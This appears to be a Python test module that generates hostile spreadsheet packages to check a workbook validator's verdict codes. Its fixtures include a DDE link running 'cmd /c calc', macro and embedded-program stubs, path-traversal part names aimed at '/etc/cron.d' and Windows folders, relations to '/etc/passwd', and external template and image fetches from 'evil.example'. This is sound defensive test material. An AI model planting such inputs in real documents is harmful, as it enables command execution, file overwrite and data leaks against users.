"""Packages with more in them than cells: code, links, objects, odd names of parts, parts that are not there."""

from __future__ import annotations

from collections.abc import Iterator
from io import BytesIO

import msoffcrypto.format.ooxml

from tests.hostile.material import (
    COUNTS,
    RELATIONS,
    STRINGS,
    STYLES,
    TYPES,
    WORKBOOK,
    Change,
    Entry,
    Hostile,
    changed,
    entries,
    sheet_part,
    swap,
    template,
    zipped,
)

_UNSAFE = "V-14.unsafe_path"
_OUTSIDE = b' TargetMode="External"'
_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'


def _relation(kind: bytes, target: bytes, mode: bytes = b"") -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
    return _RELS + b'<Relationship Id="rId1" Type="%s" Target="%s"%s/></Relationships>' % (kind, target, mode)


#: Name → (parts, what must be said). Nothing of it is opened, and the cells are read.
_BESIDE: dict[str, tuple[dict[str, Change], str]] = {
    "macro": ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 500}, "V-14.macro"),
    "macro-capitals": ({"xl/VBAPROJECT.BIN": b"x"}, "V-14.macro"),
    "macro-elsewhere": ({"customUI/vbaProject.bin": b"x"}, "V-14.macro"),
    "macro-sheet-of-excel-4": ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "V-14.macro"),
    "dialog-sheet": ({"xl/dialogsheets/sheet1.xml": b"<x/>"}, "V-14.macro"),
    "active-x": ({"xl/activeX/activeX1.bin": b"x", "xl/activeX/activeX1.xml": b"<x/>"}, "V-14.object"),
    "ole-object": ({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 900}, "V-14.object"),
    "embedded-workbook": ({"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK\3\4"}, "V-14.object"),
    "embedded-program": ({"xl/embeddings/setup.exe": b"MZ" + b"\0" * 900}, "V-14.object"),
    "external-book": (
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": _relation(
                b"externalLinkPath", b"file:///\\\\evil\\share\\a.xlsx", b' TargetMode="External"'
            ),
        },
        "V-14.external",
    ),
    "dde": ({"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}, "V-14.external"),
    "data-connection": ({"xl/connections.xml": b'<connections><connection id="1" name="a"/></connections>'},
                        "V-14.connection"),
    "query-table": ({"xl/queryTables/queryTable1.xml": b"<x/>"}, "V-14.connection"),
    "web-query": ({"xl/webextensions/webextension1.xml": b"<x/>"}, "V-14.connection"),
    "power-query": ({"customXml/item1.xml": b"<DataMashup>AAAA</DataMashup>"}, COUNTS),
    "custom-ribbon": ({"customUI/customUI.xml": b'<customUI onLoad="run"/>'}, COUNTS),
    "printer-settings": ({"xl/printerSettings/printerSettings1.bin": b"\0" * 900}, COUNTS),
    "picture": ({"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"x" * 900}, COUNTS),
    "picture-fetched-from-outside": (
        {"xl/drawings/_rels/drawing1.xml.rels": _relation(b"image", b"http://evil.example/a", _OUTSIDE),
         "xl/drawings/drawing1.xml": b"<x/>"}, COUNTS),
    "template-fetched-from-outside": (
        {"word/_rels/settings.xml.rels": _relation(b"attachedTemplate", b"http://evil.example/a.dotm",
                                                   b' TargetMode="External"')}, COUNTS),
    "signature": ({"_xmlsignatures/sig1.xml": b"<Signature/>"}, COUNTS),
}  # fmt: skip

#: Names of parts, each beside the good ones.
_NAMES: dict[str, tuple[str, str]] = {
    "up": ("../evil.xml", _UNSAFE),
    "up-inside": ("xl/../../evil.xml", _UNSAFE),
    "up-windows": ("xl\\..\\..\\evil.xml", _UNSAFE),
    "root": ("/etc/cron.d/evil", _UNSAFE),
    "root-windows": ("\\windows\\evil.dll", _UNSAFE),
    "drive": ("C:\\evil.xml", _UNSAFE),
    "drive-relative": ("c:evil.xml", _UNSAFE),
    "share": ("\\\\host\\share\\evil.xml", _UNSAFE),
    "device": ("xl/CON", _UNSAFE),
    "device-with-suffix": ("xl/aux.xml", _UNSAFE),
    "device-port": ("xl/com1.bin", _UNSAFE),
    "stream": ("xl/a.xml:hidden", _UNSAFE),
    "control": ("xl/a\x07b.bin", _UNSAFE),
    "line-end": ("xl/a\nb.bin", _UNSAFE),
    "right-to-left": ("xl/\u202egnp.exe", _UNSAFE),
    "trailing-dot": ("xl/a.bin.", COUNTS),
    "zero-width": ("xl/a\u200bb.bin", COUNTS),
    "very-long": ("xl/" + "a" * 5000 + ".bin", COUNTS),
    "deep": ("x/" * 900 + "a.bin", COUNTS),
    "empty": ("", "V-11.broken"),
    "folder": ("xl/leer/", COUNTS),
    "not-utf8": ("xl/\xff\xfe.bin", COUNTS),
}

#: Parts left out or emptied.
_MISSING: dict[str, tuple[dict[str, Change], str]] = {
    "types": ({TYPES: None}, COUNTS),
    "root-relations": ({"_rels/.rels": None}, "V-11.broken"),
    "workbook": ({WORKBOOK: None}, "V-11.unknown"),
    "workbook-relations": ({RELATIONS: None}, "V-11.broken"),
    "strings": ({STRINGS: None}, "V-11.broken"),
    "styles": ({STYLES: None}, COUNTS),
    "theme": ({"xl/theme/theme1.xml": None}, COUNTS),
    "properties": ({"docProps/core.xml": None, "docProps/app.xml": None}, COUNTS),
    "sheet": ({sheet_part("NHAN_SU"): None}, "V-11.broken"),
    "guide-sheet": ({sheet_part("HUONG_DAN"): None}, COUNTS),
    "all-but-workbook": ({name.decode(): None for name in (e.name for e in entries()) if name != b"xl/workbook.xml"},
                         "V-11.broken"),
}  # fmt: skip
_EMPTY = {WORKBOOK: "V-11.broken", RELATIONS: "V-11.broken", STRINGS: "V-11.broken", STYLES: "V-11.broken",
          TYPES: COUNTS, sheet_part("NHAN_SU"): "V-11.broken"}  # fmt: skip


def _said(expected: str) -> str:
    return expected if expected == COUNTS else f"{COUNTS} {expected}"


def _relations() -> Iterator[Hostile]:
    """Relations of the workbook that lead elsewhere."""
    for name, target, expected in (
        ("up", b"../../../etc/passwd", "V-11.broken"),
        ("file", b"file:///etc/passwd", "V-11.broken"),
        ("web", b"http://evil.example/sheet.xml", "V-11.broken"),
        ("itself", b"workbook.xml", f"{COUNTS} V-01.no_rows"),
        ("absolute", b"/xl/worksheets/sheet3.xml", COUNTS),
        ("backslash", b"worksheets\\sheet3.xml", "V-11.broken"),
        ("doubled", b"xl/worksheets/sheet3.xml", "V-11.broken"),
        ("dotted", b"./worksheets/../worksheets/sheet3.xml", "V-11.broken"),
        ("capitals", b"WORKSHEETS/SHEET3.XML", COUNTS),
        ("empty", b"", "V-11.broken"),
    ):
        change = swap(b'Target="worksheets/sheet3.xml"', b'Target="' + target + b'"')
        yield Hostile(f"relation-{name}.xlsx", changed({RELATIONS: change}), expected)
    same = swap(b'Target="worksheets/sheet4.xml"', b'Target="worksheets/sheet3.xml"')
    yield Hostile("relation-one-sheet-twice.xlsx", changed({RELATIONS: same}), COUNTS)


def _locked() -> Iterator[Hostile]:
    out = BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(BytesIO(template())).encrypt("mat-khau", out)
    # The salts are random; what the examination sees is not.
    yield Hostile("encrypted.xlsx", out.getvalue(), "V-12.workbook")
    yield Hostile("encrypted-cut.xlsx", out.getvalue()[:4096], "V-12.workbook")


def files() -> Iterator[Hostile]:
    """All of this module."""
    for name, (more, expected) in _BESIDE.items():
        yield Hostile(f"beside-{name}.xlsx", changed(more), _said(expected))
    for name, (part, expected) in _NAMES.items():
        raw = part.encode("latin-1") if name == "not-utf8" else part.encode()
        flags = {"flags": 0 if name == "not-utf8" else 0x800}
        told = [*entries(), Entry(raw, b"<x/>", local=flags, central=flags)]
        yield Hostile(f"part-{name}.xlsx", zipped(told), expected)
    for name, (less, expected) in _MISSING.items():
        yield Hostile(f"missing-{name}.xlsx", changed(less), expected)
    for part, expected in _EMPTY.items():
        yield Hostile(f"empty-{part.rpartition('/')[2]}.xlsx", changed({part: b""}), expected)
    yield from _relations()
    yield from _locked()
